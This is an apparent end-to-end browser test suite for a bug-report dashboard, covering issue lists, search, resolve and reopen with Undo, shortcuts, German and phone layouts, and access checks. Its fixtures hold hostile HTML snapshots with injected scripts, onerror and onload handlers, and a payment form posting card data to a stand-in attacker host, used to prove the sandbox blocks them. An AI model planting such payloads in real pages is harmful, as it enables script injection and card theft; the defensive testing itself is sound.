/**
 * Issue review in the dashboard (issues 8 and 19), against the built dashboard and the local stack: the open
 * and resolved lists with pages and search in the address, one issue with its media, snapshot, log and
 * device, Resolve and Reopen with Undo, Previous/Next in the list's order, the shortcuts, in English and
 * German and at phone width; a hostile page snapshot whose scripts cannot run, and a snapshot that shows
 * its images and fonts from the customer's site at the visitor's scroll position; the navigation and
 * unknown addresses; another client kept out. Reports with media come through the widget's
 * real calls (uploads to the S3 stand-in); plain volume is written through the issues entity.
 */
import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Frame, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ApiClient } from '../support/api-client';
import { setUpBrowserSuite, shot, type TestPage, waitForPath } from '../support/browser';
import { seedIssues } from '../support/issues';
import { png } from '../support/png';
import { signedIn } from '../support/users';
import { fileReport } from '../support/widget';

const suite = setUpBrowserSuite();
const SITE = 'https://shop.example';

/** The visitor's page as the snapshot carries it: every way it could try to run something. */
const hostileSnapshot = `<!doctype html><html><head><title>Shop</title>
<script>parent.postMessage('pwned-head', '*'); document.title = 'pwned';</script></head>
<body><h1>Hostile page</h1><p>Basket: 3 items</p>
<img src="data:," onerror="document.body.insertAdjacentHTML('beforeend', '<p id=ran>RAN</p>'); parent.postMessage('pwned-img', '*')">
<script>document.body.insertAdjacentHTML('beforeend', '<p id=ran>RAN</p>'); parent.postMessage('pwned-body', '*');</script>
<svg onload="parent.postMessage('pwned-svg', '*')"></svg>
<form action="https://evil.test/steal"><input name="card"><button>Pay</button></form>
</body></html>`;

interface Site {
  api: ApiClient;
  email: string;
  id: string;
  cookies: { name: string; value: string; url: string }[];
}

async function site(): Promise<Site> {
  const { client: api, email } = await signedIn(suite.stack.url);
  const created = await api.post('/api/client/website', { name: 'Shop', url: 'shop.example' });
  const id = (created.body as { msg: { id: string } }).msg.id;
  // A new project mails its owner; these issues come in with no integration on.
  await api.patch(`/api/client/integration/${id}`, [{ name: 'email', active: 0, data: {} }]);
  // Attachments need a paid plan; billing is a later issue, the local-only helper sets it.
  expect((await api.post('/api/dev/plan', { username: email, plan: 'BASIC_PLAN', days: 30 })).status).toBe(
    200,
  );
  const cookies = [...api.cookies].map(([name, value]) => ({ name, value, url: suite.stack.url }));
  return { api, email, id, cookies };
}

async function tab(
  s: Site,
  opts: { locale?: string; phone?: boolean; allowOrigins?: string[] } = {},
): Promise<TestPage> {
  const t = await suite.newTab({
    locale: opts.locale ?? 'en-US',
    ...(opts.phone ? { viewport: { width: 390, height: 844 } } : {}),
    allowOrigins: [suite.stack.endpoints.s3, ...(opts.allowOrigins ?? [])],
  });
  await t.context.addCookies(s.cookies);
  return t;
}

/** 11 plain issues (1-11), then the one with everything (12). */
async function seedReviewSite(): Promise<Site & { media: number }> {
  const s = await site();
  await seedIssues(s.id, 11, (n) => (n === 3 ? 'Search finds the footer typo' : `Issue ${n}`));
  const media = await fileReport(suite.stack.url, s.id, SITE, {
    fields: {
      msg: 'Checkout button broken\nClicking <b>Pay</b> does nothing.\n\nSecond paragraph.',
      username: 'visitor@example.org',
      href: 'https://shop.example/cart?step=2',
      browser: 'Firefox',
      browserVersion: '130',
      os: 'Windows',
      osVersion: '11',
      deviceType: 'Desktop',
      screenResolution: '1920x1080',
      customFields: [{ name: 'Customer number', value: 'C-1042' }],
      logs: [
        {
          t: Date.UTC(2026, 10, 2, 9, 30, 5),
          level: 'error',
          kind: 'exception',
          msg: 'TypeError: cart is null',
        },
        {
          t: Date.UTC(2026, 10, 2, 9, 30, 6),
          level: 'warn',
          kind: 'network',
          msg: 'POST https://shop.example/api/pay 502',
        },
      ],
    },
    screenshots: [
      { type: 'image/png', content: png(640, 400, [79, 78, 174], true), snapshot: hostileSnapshot },
    ],
    files: [
      {
        name: 'notes.txt',
        type: 'text/plain',
        content: new TextEncoder().encode('Order 1042\n<script>x</script>'),
      },
      { name: 'Rechnung März.pdf', type: 'application/pdf', content: new Uint8Array(2048).fill(7) },
    ],
  });
  return { ...s, media };
}

const rows = (page: Page) => page.getByTestId('issue-row');

/** Waits until issue `n` is on screen (its address alone comes before the issue has loaded). */
async function onIssue(page: Page, projectId: string, n: number) {
  await waitForPath(page, `/profile/site/${projectId}/ticket/${n}`);
  await expect.poll(() => page.getByTestId('issue-number').textContent(), { timeout: 15_000 }).toBe(`#${n}`);
}

/** Waits for the list to show exactly these issue numbers (a reload loads chunks, profile and list). */
async function expectRows(page: Page, numbers: number[]) {
  await expect.poll(() => rowNumbers(page), { timeout: 15_000 }).toEqual(numbers);
}

/** Chromium reports each script the sandbox blocked: proof, not a fault of the dashboard. */
const blockedBySandbox = (message: string) =>
  /^console: Blocked script execution in '[^']*' because the document's frame is sandboxed/.test(message) ||
  /^console: Refused to (execute|load)[\s\S]*Content Security Policy/.test(message);

/** The snapshot frame's document (on the S3 stand-in's origin), once it has loaded. */
async function snapshotDocumentFrame(page: Page): Promise<Frame> {
  const s3 = suite.stack.endpoints.s3;
  await expect.poll(() => page.frames().some((f) => f.url().startsWith(s3)), { timeout: 15_000 }).toBe(true);
  const frame = page.frames().find((f) => f.url().startsWith(s3)) as Frame;
  await frame.waitForLoadState('load');
  return frame;
}

async function rowNumbers(page: Page): Promise<number[]> {
  const texts = await rows(page).allTextContents();
  return texts.map((t) => Number(/#(\d+)/.exec(t)?.[1]));
}

describe('reviewing issues in English', () => {
  let s: Site & { media: number };
  let t: TestPage;
  beforeAll(async () => {
    s = await seedReviewSite();
    t = await tab(s);
  });

  it('lists new issues 10 a page, with page and search in the address', async () => {
    const { page } = t;
    const res = await page.goto(`/profile/site/${s.id}`);
    // The dashboard runs under production's policy (lib/web-headers.ts): everything below works under it.
    expect(res?.headers()['content-security-policy']).toContain(
      "script-src 'self' https://accounts.google.com",
    );
    expect(res?.headers()['content-security-policy']).toContain(
      `img-src 'self' data: blob: ${suite.stack.endpoints.s3}`,
    );
    await page.getByRole('heading', { name: 'Open issues' }).waitFor();
    await page.getByText('12 issues', { exact: true }).waitFor();
    await expectRows(page, [12, 11, 10, 9, 8, 7, 6, 5, 4, 3]);
    const first = rows(page).first();
    await first.getByText('Checkout button broken').waitFor();
    expect(await first.getByLabel('2 attachments').textContent()).toBe('2');
    expect(await first.getByLabel('1 screenshot').textContent()).toBe('1');
    await shot(page, 'issues-list-en');

    await page.getByRole('button', { name: 'Page 2' }).click();
    await waitForPath(page, `/profile/site/${s.id}`, '?page=2');
    await expectRows(page, [2, 1]);
    await page.goBack();
    await waitForPath(page, `/profile/site/${s.id}`, '');
    await expectRows(page, [12, 11, 10, 9, 8, 7, 6, 5, 4, 3]);

    const search = page.getByRole('textbox', { name: 'Search issues' });
    expect(await search.getAttribute('maxlength')).toBe('50');
    await search.fill('FOOTER typo');
    await waitForPath(page, `/profile/site/${s.id}`, '?search=FOOTER+typo');
    await expectRows(page, [3]);
    // A shared link shows the same list.
    await page.reload();
    await expectRows(page, [3]);
    expect(await search.inputValue()).toBe('FOOTER typo');

    await search.fill('nothing like this');
    await page.getByRole('heading', { name: 'No issues found' }).waitFor();
    await shot(page, 'issues-search-empty-en');
    await page.getByRole('button', { name: 'Clear search' }).first().click();
    await waitForPath(page, `/profile/site/${s.id}`, '');

    // A page past the end is an empty list with a way back.
    await page.goto(`/profile/site/${s.id}?page=9`);
    await page.getByText('This page is past the end of the list.').waitFor();
    await page.getByRole('button', { name: 'Go to the first page' }).click();
    await waitForPath(page, `/profile/site/${s.id}`, '');
    expect(t.failedResponses).toEqual([]);
  });

  it('shows the issue with everything the widget captured, as text', async () => {
    const { page } = t;
    await rows(page).first().click();
    await waitForPath(page, `/profile/site/${s.id}/ticket/${s.media}`);
    await page.getByRole('heading', { level: 1, name: 'Checkout button broken' }).waitFor();
    // The description is plain text: the visitor's markup shows as typed.
    expect(await page.getByTestId('issue-description').textContent()).toBe(
      'Checkout button broken\nClicking <b>Pay</b> does nothing.\n\nSecond paragraph.',
    );
    expect(await page.getByTestId('issue-description').locator('b').count()).toBe(0);
    const reporter = page.getByRole('link', { name: 'visitor@example.org' });
    expect(await reporter.getAttribute('href')).toBe('mailto:visitor@example.org');
    const pageLink = page.getByRole('link', { name: 'https://shop.example/cart?step=2' });
    expect(await pageLink.getAttribute('rel')).toBe('noopener noreferrer');
    expect(await pageLink.getAttribute('target')).toBe('_blank');
    await page.getByText('Firefox 130', { exact: true }).waitFor();
    await page.getByText('Windows 11', { exact: true }).waitFor();
    await page.getByText('1920 × 1080', { exact: true }).waitFor();
    await page.getByText('C-1042', { exact: true }).waitFor();
    await page.getByText('Customer number', { exact: true }).waitFor();

    // The screenshot loads through the API's redirect to S3.
    const thumb = page.getByRole('img', { name: 'Screenshot 1' });
    await expect.poll(() => thumb.evaluate((img: HTMLImageElement) => img.naturalWidth)).toBe(640);

    // The log is collapsed until asked for.
    await page.getByText('2 entries, 1 of them errors.').waitFor();
    expect(await page.getByTestId('log-entry').first().isVisible()).toBe(false);
    await page.getByRole('button', { name: 'Show' }).click();
    // The console section's own entries (the session timeline above lists the same error and request).
    const log = page.locator('#issue-log-entries');
    await log.getByText('TypeError: cart is null').waitFor({ state: 'visible' });
    await log.getByText('POST https://shop.example/api/pay 502').waitFor();

    // Issues 1-11 were filed with email in progress; this one had no active integration: no rows.
    await page.getByText('This issue was not sent to any integration.').waitFor();
    await shot(page, 'issue-en');

    // Screenshot viewer: zoom and download under the API's download address.
    await page.getByRole('button', { name: 'View', exact: true }).first().click();
    const dialog = page.getByRole('dialog', { name: 'Screenshot 1' });
    await dialog.getByTestId('viewer-image').waitFor();
    await dialog.getByRole('button', { name: 'Fit' }).click();
    await dialog.getByText('100 %').waitFor();
    await dialog.getByRole('button', { name: 'Zoom in' }).click();
    await dialog.getByText('150 %').waitFor();
    expect(await dialog.getByTestId('viewer-image').evaluate((img: HTMLImageElement) => img.width)).toBe(960);
    expect(await dialog.getByRole('link', { name: 'Download' }).getAttribute('href')).toMatch(
      new RegExp(`^/api/client/download/screenshot/${s.id}/[0-9a-f-]{36}\\.png\\?download=1$`),
    );
    await shot(page, 'issue-viewer-en');
    await page.keyboard.press('Escape');
    await dialog.waitFor({ state: 'detached' });

    // A text attachment is shown as text, never rendered.
    await page.getByRole('button', { name: 'View notes.txt' }).click();
    const text = page.getByRole('dialog', { name: 'notes.txt' }).getByTestId('viewer-text');
    await expect.poll(() => text.textContent()).toBe('Order 1042\n<script>x</script>');
    await page.keyboard.press('Escape');
    // A PDF is download only, under its original name.
    expect(await page.getByRole('button', { name: 'View Rechnung März.pdf' }).count()).toBe(0);
    const pdf = page.getByRole('link', { name: 'Download Rechnung März.pdf' });
    const [download] = await Promise.all([page.waitForEvent('download'), pdf.click()]);
    expect(download.suggestedFilename()).toBe('Rechnung März.pdf');
    expect(t.errors).toEqual([]);
  });

  it("shows the page snapshot in a sandbox where the visitor's scripts cannot run", async () => {
    const { page } = t;
    await page.evaluate(() => {
      (window as unknown as { pwned: unknown[] }).pwned = [];
      window.addEventListener('message', (e) =>
        (window as unknown as { pwned: unknown[] }).pwned.push(e.data),
      );
    });
    await page.getByRole('button', { name: 'Page snapshot' }).click();
    const frameElement = page.getByTestId('snapshot-frame');
    await frameElement.waitFor();
    expect(await frameElement.getAttribute('sandbox')).toBe('');
    // Served from the bucket's origin, never the dashboard's (DESIGN.md section 6).
    expect(await frameElement.getAttribute('src')).toMatch(new RegExp(`^${suite.stack.endpoints.s3}/`));
    const frame = page.frameLocator('[data-testid="snapshot-frame"]');
    await frame.getByRole('heading', { name: 'Hostile page' }).waitFor();
    await frame.getByText('Basket: 3 items').waitFor();
    await page.waitForTimeout(500);
    expect(await frame.locator('#ran').count()).toBe(0);
    expect(await page.evaluate(() => (window as unknown as { pwned: unknown[] }).pwned)).toEqual([]);
    expect(await page.title()).not.toContain('pwned');
    // The frame has an opaque origin: nothing of the dashboard's origin (nor the bucket's) is reachable from it.
    const inner = await snapshotDocumentFrame(page);
    expect(await inner.evaluate(() => window.origin)).toBe('null');
    expect(await inner.evaluate(() => document.title)).toBe('Shop');
    expect(t.errors.filter(blockedBySandbox).length).toBeGreaterThan(0);
    expect(t.errors.filter((e) => !blockedBySandbox(e))).toEqual([]);
    await shot(page, 'issue-snapshot-en');
    await page.keyboard.press('Escape');
  });

  it("walks the list's order, resolves with e onto the next issue with Undo, and reopens from the resolved list", async () => {
    const { page } = t;
    // Previous and Next follow the list (newest first): on the newest issue there is nothing above.
    await page.goto(`/profile/site/${s.id}`);
    await rows(page).first().click();
    await onIssue(page, s.id, 12);
    expect(await page.getByRole('button', { name: 'Previous issue' }).isDisabled()).toBe(true);
    await page.getByRole('link', { name: 'Next issue' }).click();
    await onIssue(page, s.id, 11);
    // j moves down the list, k up.
    await page.keyboard.press('j');
    await onIssue(page, s.id, 10);
    await page.keyboard.press('k');
    await onIssue(page, s.id, 11);

    await page.goto(`/profile/site/${s.id}?page=2`);
    await rows(page).filter({ hasText: '#2' }).click();
    await onIssue(page, s.id, 2);
    await page.keyboard.press('j');
    await onIssue(page, s.id, 1);
    // The oldest issue is the end of the list.
    expect(await page.getByRole('button', { name: 'Next issue' }).isDisabled()).toBe(true);
    await page.keyboard.press('k');
    await onIssue(page, s.id, 2);

    // e resolves and moves on to the next issue of the list, which offers Undo, focused.
    await page.keyboard.press('e');
    await onIssue(page, s.id, 1);
    const notice = page.getByTestId('undo-notice');
    await notice.getByText('Issue #2 resolved.').waitFor();
    const undo = page.getByRole('button', { name: 'Undo: reopen issue #2' });
    await expect.poll(() => undo.evaluate((el) => el === document.activeElement)).toBe(true);
    await shot(page, 'issue-resolved-undo-en');
    // Undo by keyboard: the issue is open again and on screen.
    await page.keyboard.press('Enter');
    await onIssue(page, s.id, 2);
    await page.getByText('Issue #2 reopened.').waitFor();
    await page.getByTestId('issue-state').getByText('Open', { exact: true }).waitFor();
    // The u key undoes too.
    await page.getByRole('button', { name: 'Resolve', exact: true }).click();
    await onIssue(page, s.id, 1);
    await page.keyboard.press('u');
    await onIssue(page, s.id, 2);
    await page.keyboard.press('e');
    await onIssue(page, s.id, 1);
    // Back goes to the page it was opened from.
    await page.getByRole('main').getByRole('link', { name: 'Open issues' }).click();
    await waitForPath(page, `/profile/site/${s.id}`, '?page=2');
    await expectRows(page, [1]);
    await page.getByText('11 issues', { exact: true }).waitFor();

    await page
      .getByRole('navigation', { name: 'Project navigation' })
      .getByRole('link', { name: 'Resolved issues' })
      .click();
    await waitForPath(page, `/profile/resolved/${s.id}`);
    await page.getByRole('heading', { name: 'Resolved issues' }).waitFor();
    await expectRows(page, [2]);
    await shot(page, 'issues-resolved-en');
    await rows(page).first().click();
    await onIssue(page, s.id, 2);
    // The heading's state (the side panel's status choice holds a "Resolved" too).
    await page.getByTestId('issue-state').getByText('Resolved', { exact: true }).waitFor();
    // Email was in progress for the seeded issues: its row shows and links to the integration.
    const email = page.getByTestId('integration-status').getByRole('link', { name: 'Email' });
    expect(await email.getAttribute('href')).toBe(`/profile/integrations/${s.id}/email`);
    await page.getByTestId('integration-status').getByText('In progress').waitFor();
    // e only resolves: on a resolved issue it does nothing.
    await page.keyboard.press('e');
    await page.waitForTimeout(300);
    expect(new URL(page.url()).pathname).toBe(`/profile/site/${s.id}/ticket/2`);
    // The last issue of the resolved list: Reopen goes to the list, which offers Undo.
    await page.getByRole('button', { name: 'Reopen', exact: true }).click();
    await waitForPath(page, `/profile/resolved/${s.id}`);
    await page.getByText('Issue #2 reopened.').waitFor();
    await page.getByRole('heading', { name: 'No resolved issues found' }).waitFor();
    await page.getByRole('button', { name: 'Undo: resolve issue #2' }).waitFor();
    await shot(page, 'issues-resolved-empty-en');
    await page.goto(`/profile/site/${s.id}`);
    await page.getByText('12 issues', { exact: true }).waitFor();
    // The notice belongs to the moment: a fresh visit has none.
    expect(await page.getByTestId('undo-notice').count()).toBe(0);
    expect(t.failedResponses).toEqual([]);
  });

  it('goes back to the issue list when an issue cannot be loaded; another client is kept out', async () => {
    const { page } = t;
    await page.goto(`/profile/site/${s.id}/ticket/999`);
    await waitForPath(page, `/profile/site/${s.id}`);
    await page.goto(`/profile/site/${s.id}/ticket/abc`);
    await waitForPath(page, `/profile/site/${s.id}`);

    const stranger = await tab(await site());
    await stranger.page.goto(`/profile/site/${s.id}/ticket/${s.media}`);
    await waitForPath(stranger.page, '/profile');
    await stranger.page.goto(`/profile/resolved/${s.id}`);
    await waitForPath(stranger.page, '/profile');
    expect(await stranger.page.getByText('Checkout button broken').count()).toBe(0);
  });
});

describe('reviewing issues in German on a phone', () => {
  it('lists, opens, closes and restores, with every text in German', async () => {
    const s = await seedReviewSite();
    const t = await tab(s, { locale: 'de-DE', phone: true });
    const { page } = t;
    await page.goto(`/profile/site/${s.id}`);
    await page.getByRole('heading', { name: 'Offene Meldungen' }).waitFor();
    await page.getByText('12 Meldungen', { exact: true }).waitFor();
    // Nothing wider than the phone.
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(390);
    await shot(page, 'issues-list-de-phone');

    await rows(page).first().click();
    await waitForPath(page, `/profile/site/${s.id}/ticket/${s.media}`);
    await page.getByRole('heading', { level: 1, name: 'Checkout button broken' }).waitFor();
    await page.getByText('Konsole und Fehler').waitFor();
    await page.getByText('Benutzerdefinierte Felder').waitFor();
    await page.getByText('2 Einträge, davon 1 Fehler.').waitFor();
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(390);
    await shot(page, 'issue-de-phone');
    await page.getByRole('button', { name: 'Seitenabbild' }).click();
    await page
      .frameLocator('[data-testid="snapshot-frame"]')
      .getByRole('heading', { name: 'Hostile page' })
      .waitFor();
    await shot(page, 'issue-snapshot-de-phone');
    await page.getByRole('button', { name: 'Schließen', exact: true }).click();

    await page.getByRole('button', { name: 'Erledigen', exact: true }).click();
    await onIssue(page, s.id, 11);
    await page.getByText(`Meldung #${s.media} erledigt.`).waitFor();
    await page.getByRole('button', { name: `Rückgängig: Meldung #${s.media} wieder öffnen` }).waitFor();
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(390);
    await shot(page, 'issue-resolved-undo-de-phone');
    await page.goto(`/profile/site/${s.id}`);
    await page.getByText('11 Meldungen', { exact: true }).waitFor();

    await page.goto(`/profile/resolved/${s.id}`);
    await page.getByRole('heading', { name: 'Erledigte Meldungen' }).waitFor();
    await rows(page).first().click();
    await page.getByRole('button', { name: 'Wieder öffnen', exact: true }).click();
    await waitForPath(page, `/profile/resolved/${s.id}`);
    await page.getByText(`Meldung #${s.media} wieder geöffnet.`).waitFor();
    await page.getByRole('heading', { name: 'Keine erledigten Meldungen gefunden' }).waitFor();
    await shot(page, 'issues-resolved-empty-de-phone');
    await page.goto(`/profile/site/${s.id}?search=zzz`);
    await page.getByRole('heading', { name: 'Keine Meldungen gefunden' }).waitFor();
    expect(t.errors.filter((e) => !blockedBySandbox(e))).toEqual([]);
    expect(t.failedResponses).toEqual([]);
  });
});

describe('the page snapshot as the visitor saw it (issue 19)', () => {
  // The customer's site: an image and a web font on an origin other than the dashboard's and the bucket's.
  let assets: Server;
  let assetOrigin: string;
  beforeAll(async () => {
    const font = readFileSync('/usr/share/fonts/truetype/dejavu/DejaVuSans-Bold.ttf');
    const picture = png(200, 100, [220, 40, 40]);
    assets = createServer((req, res) => {
      // Fonts load with CORS from the frame's opaque origin, as from any other site.
      const headers = { 'access-control-allow-origin': '*', 'cache-control': 'no-store' };
      if (req.url === '/logo.png')
        res.writeHead(200, { ...headers, 'content-type': 'image/png' }).end(picture);
      else if (req.url === '/brand.ttf')
        res.writeHead(200, { ...headers, 'content-type': 'font/ttf' }).end(font);
      else res.writeHead(404).end();
    });
    await new Promise<void>((resolve) => assets.listen(0, '127.0.0.1', resolve));
    assetOrigin = `http://127.0.0.1:${(assets.address() as AddressInfo).port}`;
  });
  afterAll(() => new Promise<void>((resolve) => assets.close(() => resolve())));

  it("loads the site's image and font, opens at the visitor's scroll position and window, and runs no script", async () => {
    const s = await site();
    const meta = {
      url: 'https://shop.example/long',
      scrollX: 0,
      scrollY: 1500,
      width: 800,
      height: 600,
      devicePixelRatio: 1,
    };
    // As the widget writes it: the page's <base>, the record of the visit, then the page (dark, own font).
    const snapshot = `<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><base href="${assetOrigin}/shop/"><meta name="snag-snapshot" content="${JSON.stringify(meta).replace(/"/g, '&quot;')}">
<style>@font-face { font-family: "Brand"; src: url("/brand.ttf") format("truetype"); }
body { margin: 0; background: #14142b; color: #fff; font-family: "Brand", monospace; }
.top { height: 1500px; } .seen { height: 2000px; } h1, h2 { margin: 0; padding: 0; }</style>
<script>document.title = 'pwned'</script></head>
<body><div class="top"><h1>Top of the page</h1></div>
<div class="seen"><h2 id="seen">Where the visitor was</h2><img id="logo" src="../logo.png" alt="Logo" width="200" height="100"></div>
<img src="x" onerror="document.title = 'pwned'"></body></html>`;
    const n = await fileReport(suite.stack.url, s.id, SITE, {
      fields: { msg: 'The long page' },
      screenshots: [{ type: 'image/png', content: png(800, 600, [20, 20, 43]), snapshot }],
    });
    const t = await tab(s, { allowOrigins: [assetOrigin] });
    const { page } = t;
    await page.goto(`/profile/site/${s.id}/ticket/${n}`);
    await page.getByRole('button', { name: 'Page snapshot' }).click();
    const frameElement = page.getByTestId('snapshot-frame');
    await frameElement.waitFor();
    // The visitor's window, scaled to fit the viewer.
    expect(await frameElement.getAttribute('width')).toBe('800');
    expect(await frameElement.getAttribute('height')).toBe('600');
    const frame = await snapshotDocumentFrame(page);
    // The image from the customer's origin (a relative address, through the page's <base>) and the font.
    await expect
      .poll(() => frame.evaluate(() => (document.getElementById('logo') as HTMLImageElement).naturalWidth))
      .toBe(200);
    await expect
      .poll(() =>
        frame.evaluate(() =>
          [...document.fonts].some((f) => f.family.replace(/"/g, '') === 'Brand' && f.status === 'loaded'),
        ),
      )
      .toBe(true);
    expect(await frame.evaluate(() => getComputedStyle(document.body).backgroundColor)).toBe(
      'rgb(20, 20, 43)',
    );
    // Opened where the visitor was: their heading at the top of the frame.
    await expect.poll(() => frame.evaluate(() => window.scrollY)).toBe(1500);
    expect(await frame.evaluate(() => document.getElementById('seen')?.getBoundingClientRect().top)).toBe(0);
    // Nothing of the visitor's page ran.
    expect(await frame.evaluate(() => document.title)).toBe('');
    expect(await page.title()).not.toContain('pwned');
    await shot(page, 'issue-snapshot-assets-en');
    expect(t.errors.filter((e) => !blockedBySandbox(e))).toEqual([]);
  });
});

describe('navigation and unknown addresses (issue 19)', () => {
  it('has Log out only in the account menu, one profile entry, and says when a page does not exist', async () => {
    const s = await site();
    const t = await tab(s);
    const { page } = t;
    await page.goto('/profile');
    const main = page.getByRole('navigation', { name: 'Main navigation' });
    await main.getByRole('link', { name: 'Dashboard' }).waitFor();
    expect(await main.getByRole('link').allTextContents()).toEqual([
      'Dashboard',
      'Profile settings',
      'Team',
      'Billing',
    ]);
    expect(await page.getByRole('button', { name: 'Log out' }).count()).toBe(0);
    await page.getByRole('button', { name: 'Account menu' }).click();
    const items = page.getByRole('menuitem');
    await items.first().waitFor();
    expect(await items.allTextContents()).toEqual(['Profile settings', 'Team', 'Billing', 'Log out']);
    await shot(page, 'topbar-menu-en');
    await page.keyboard.press('Escape');

    // Unknown addresses still land on the projects, and say so.
    await page.goto('/profile/nope');
    await waitForPath(page, '/profile');
    await page.getByText('The page /profile/nope does not exist, so here are your projects.').waitFor();
    await shot(page, 'not-found-en');
    await page.getByRole('button', { name: 'Dismiss' }).click();
    await page.getByTestId('not-found-notice').waitFor({ state: 'detached' });
    await page.goto('/no/such/page');
    await waitForPath(page, '/profile');
    await page.getByText('The page /no/such/page does not exist, so here are your projects.').waitFor();
    // The notice lasts until the next navigation; "/" itself is the dashboard, with no notice.
    await page.getByRole('link', { name: 'Billing' }).first().click();
    await waitForPath(page, '/profile/billing');
    await page.getByTestId('not-found-notice').waitFor({ state: 'detached' });
    await page.goto('/');
    await waitForPath(page, '/profile');
    await page.getByRole('navigation', { name: 'Main navigation' }).waitFor();
    expect(await page.getByTestId('not-found-notice').count()).toBe(0);
    expect(t.failedResponses).toEqual([]);
  });

  it('speaks one vocabulary in German on a desktop: sidebar, list, detail, Undo and the menu', async () => {
    const s = await site();
    await seedIssues(s.id, 3, (n) => `Issue ${n}`);
    const t = await tab(s, { locale: 'de-DE' });
    const { page } = t;
    await page.goto(`/profile/site/${s.id}`);
    await page.getByRole('heading', { name: 'Offene Meldungen' }).waitFor();
    const sidebar = page.getByRole('navigation', { name: 'Projektnavigation' });
    await sidebar.getByRole('link', { name: 'Offene Meldungen' }).waitFor();
    await sidebar.getByRole('link', { name: 'Erledigte Meldungen' }).waitFor();
    await shot(page, 'issues-list-de');
    await rows(page).first().click();
    await onIssue(page, s.id, 3);
    await page.keyboard.press('e');
    await onIssue(page, s.id, 2);
    await page.getByText('Meldung #3 erledigt.').waitFor();
    await page.getByRole('button', { name: 'Rückgängig: Meldung #3 wieder öffnen' }).waitFor();
    await page.getByRole('button', { name: 'Erledigen', exact: true }).waitFor();
    await shot(page, 'issue-resolved-undo-de');
    await page.getByRole('button', { name: 'Kontomenü' }).click();
    await page.getByRole('menuitem').first().waitFor();
    expect(await page.getByRole('menuitem').allTextContents()).toEqual([
      'Profileinstellungen',
      'Team',
      'Abrechnung',
      'Abmelden',
    ]);
    await shot(page, 'topbar-menu-de');
    expect(t.failedResponses).toEqual([]);
  });

  it('fits the list on a phone, column names included, and says so in German', async () => {
    const s = await site();
    await seedIssues(s.id, 3, (n) => `Issue ${n}`);
    for (const locale of ['en-US', 'de-DE']) {
      const t = await tab(s, { locale, phone: true });
      const { page } = t;
      await page.goto(`/profile/site/${s.id}`);
      await expectRows(page, [3, 2, 1]);
      // No column name is cut: every visible header cell shows all of its content.
      const clipped = await page.$$eval('th', (cells) =>
        cells
          .filter((c) => (c as HTMLElement).offsetParent !== null)
          .filter((c) => c.scrollWidth > c.clientWidth)
          .map((c) => c.textContent),
      );
      expect(clipped).toEqual([]);
      expect(
        await page
          .getByRole('columnheader', { name: locale === 'de-DE' ? 'Anhänge' : 'Attachments' })
          .count(),
      ).toBe(1);
      expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(390);
      await shot(page, `issues-list-phone-${locale}`);
    }
    const t = await tab(s, { locale: 'de-DE', phone: true });
    await t.page.goto('/profile/gibts-nicht');
    await waitForPath(t.page, '/profile');
    await t.page
      .getByText('Die Seite /profile/gibts-nicht gibt es nicht, daher sehen Sie Ihre Projekte.')
      .waitFor();
    await shot(t.page, 'not-found-de-phone');
  });
});
